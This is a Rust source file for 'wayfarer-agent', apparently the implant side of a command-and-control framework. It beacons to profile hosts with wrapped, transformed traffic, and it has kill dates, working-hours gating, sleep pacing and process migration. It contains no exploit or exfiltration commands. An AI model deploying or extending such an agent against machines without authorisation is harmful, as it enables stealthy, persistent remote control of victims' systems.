//! wayfarer-agent — the session protocol engine's client process.
//!
//! Mirrors `wayfarer-server`'s exchange loop from the other side: dial a
//! host from the Profile, HELLO/COMPLETE handshake, then alternate
//! [`run_exchange`] turns with `Profile::next_sleep()` pacing.

use std::sync::Arc;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anyhow::{anyhow, Result};
use chrono::{Datelike, Local, Timelike};
use tracing::{info, warn};
use wayfarer_core::config::{WayfarerConfig, WorkHours};
use wayfarer_core::{ids, Device, Packet};
use wayfarer_session::{run_exchange, Profile, Session};
use wayfarer_transport::tcp::TcpTransport;
use wayfarer_transport::Transport;

mod migrate;

const MAX_BODY_LEN: usize = 48 * 1024;
/// Backoff between full reconnect attempts once the profile's host list is
/// exhausted.
const RECONNECT_BACKOFF: Duration = Duration::from_secs(5);

#[tokio::main]
async fn main() -> Result<()> {
    tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::from_default_env())
        .init();

    let cfg = WayfarerConfig::load()?;
    cfg.write_default_if_missing()?;

    let transport: Arc<dyn Transport> = Arc::new(TcpTransport);
    let profile = Arc::new(Profile::new(&cfg.profile, transport)?);
    let device = local_device();
    let migration_timeout = Duration::from_secs(cfg.migration.timeout_secs);

    info!(device = %device, "wayfarer-agent starting");

    loop {
        match run_until_disconnected(&profile, device, migration_timeout).await {
            Ok(MigrationOutcome::Migrated) => {
                info!("migrated to successor process, exiting");
                return Ok(());
            }
            Ok(MigrationOutcome::Disconnected) => {
                warn!("connection lost, will reconnect");
            }
            Err(e) => {
                warn!(error = %e, "connect attempt failed");
                profile.advance();
            }
        }
        tokio::time::sleep(RECONNECT_BACKOFF).await;
    }
}

enum MigrationOutcome {
    Disconnected,
    Migrated,
}

/// Dial one host, run the handshake, then pump exchange turns until the
/// connection drops, the session is told to shut down, or it migrates away.
async fn run_until_disconnected(
    profile: &Arc<Profile>,
    device: Device,
    migration_timeout: Duration,
) -> Result<MigrationOutcome> {
    let (host, wrapper, transform) = profile.next()?;
    let mut conn = profile
        .connect(&host)
        .await
        .map_err(|e| anyhow!("connect to {host} failed: {e}"))?;
    info!(host = %host, "connected");

    let hello = Packet::new(ids::HELLO, device);
    let encoded = hello.encode_to_vec()?;
    let transformed = transform.encode(&encoded)?;
    let wrapped = wrapper.wrap(&transformed)?;
    conn.write_frame(&wrapped).await?;

    let reply_wrapped = conn.read_frame().await?;
    let reply_transformed = wrapper.unwrap(&reply_wrapped)?;
    let reply_bytes = transform.decode(&reply_transformed)?;
    let reply = Packet::decode(&reply_bytes)?;
    if reply.id != ids::COMPLETE {
        return Err(anyhow!("handshake rejected, server replied {:#x}", reply.id));
    }

    let session = Session::new(device, profile.clone());
    session.touch_last(now_millis());

    loop {
        if let Some(kd) = check_kill_date(&session) {
            info!(kill_date = kd, "kill date passed, shutting down");
            session.queue(Packet::new(ids::SHUTDOWN, device));
            session.close();
        }

        if !session.is_closed() {
            if let Some(wh) = session.work_hours() {
                let (weekday, hour, minute) = local_clock();
                if !session.within_work_hours(weekday, hour, minute) {
                    let wait = minutes_until_next_window(&wh, weekday, hour, minute);
                    info!(minutes = wait, "outside work hours, sleeping to next window");
                    tokio::time::sleep(Duration::from_secs(wait as u64 * 60)).await;
                    continue;
                }
            }
        }

        let delivered = match run_exchange(
            conn.as_mut(),
            &session,
            wrapper.as_ref(),
            transform.as_ref(),
            MAX_BODY_LEN,
        )
        .await
        {
            Ok(d) => d,
            Err(e) => {
                warn!(error = %e, "exchange turn failed");
                return Ok(MigrationOutcome::Disconnected);
            }
        };

        session.touch_last(now_millis());

        for p in delivered {
            match p.id {
                ids::SHUTDOWN => {
                    session.close();
                    return Ok(MigrationOutcome::Disconnected);
                }
                ids::MIGRATE => {
                    if migrate::handle_migrate(&p, device, migration_timeout).await {
                        return Ok(MigrationOutcome::Migrated);
                    }
                }
                ids::SLEEP => {
                    // Pacing adjustment body is read by the profile on its
                    // own next_sleep() call; nothing to act on here beyond
                    // having woken for it.
                }
                _ => {}
            }
        }

        if session.is_closed() {
            return Ok(MigrationOutcome::Disconnected);
        }

        session.sleep_or_wake(profile.next_sleep()).await;
    }
}

/// Returns `Some(kill_date)` the first time the kill date is observed to
/// have passed, so the caller logs once rather than every poll.
fn check_kill_date(session: &Session) -> Option<u64> {
    let now = now_unix_secs();
    if session.kill_date_passed(now) && !session.is_closed() {
        session.profile.kill_date()
    } else {
        None
    }
}

/// Current local time as `(sunday_based_weekday, hour, minute)`, the
/// triple [`Session::within_work_hours`] expects.
fn local_clock() -> (u8, u8, u8) {
    let now = Local::now();
    (
        now.weekday().num_days_from_sunday() as u8,
        now.hour() as u8,
        now.minute() as u8,
    )
}

/// Minutes from now until the window's next open boundary, searching up to
/// a week ahead. Falls back to a full day if the mask allows no weekday at
/// all, so a misconfigured profile can't spin the caller in a tight loop.
fn minutes_until_next_window(wh: &WorkHours, weekday: u8, hour: u8, minute: u8) -> u32 {
    let now_minutes = hour as u32 * 60 + minute as u32;
    let start_minutes = wh.start_hour as u32 * 60 + wh.start_min as u32;
    for offset in 0..=7u32 {
        let day = (weekday as u32 + offset) % 7;
        if !wh.allows_weekday(day as u8) {
            continue;
        }
        if offset == 0 {
            if now_minutes < start_minutes {
                return start_minutes - now_minutes;
            }
            continue;
        }
        return offset * 24 * 60 + start_minutes - now_minutes;
    }
    24 * 60
}

fn now_millis() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_millis() as u64)
        .unwrap_or(0)
}

fn now_unix_secs() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0)
}

/// Derive this process's [`Device`] from a machine fingerprint (hostname,
/// falling back to a fixed string if unavailable) and a fresh per-process
/// salt.
fn local_device() -> Device {
    let hostname = hostname_fingerprint();
    let salt: [u8; 4] = rand::random();
    Device::derive(hostname.as_bytes(), salt)
}

fn hostname_fingerprint() -> String {
    std::env::var("HOSTNAME")
        .or_else(|_| std::env::var("COMPUTERNAME"))
        .unwrap_or_else(|_| "unknown-host".to_string())
}
